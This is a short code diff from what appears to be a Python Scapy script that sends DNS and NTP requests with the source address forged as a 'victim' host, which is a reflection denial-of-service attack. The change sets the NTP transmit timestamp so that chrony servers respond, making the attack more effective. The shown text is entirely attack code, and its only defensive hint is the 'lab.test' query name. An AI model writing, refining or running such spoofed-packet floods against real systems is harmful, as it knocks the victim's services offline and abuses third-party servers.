@@ -15,7 +15,7 @@ def main():
         if port == 53:
             payload = DNS(id=random.randint(0, 65535), rd=1, qd=DNSQR(qname='lab.test', qtype=random.choice(['ANY', 'TXT', 'MX'])))
         else:
-            payload = NTP(version=4, mode=3)
+            payload = NTP(version=4, mode=3, sent=time.time() + 2208988800)   # chrony ignores a zero transmit time
         send(IP(src=victim, dst=server) / UDP(sport=sport, dport=port) / payload)
         time.sleep(gap)
 
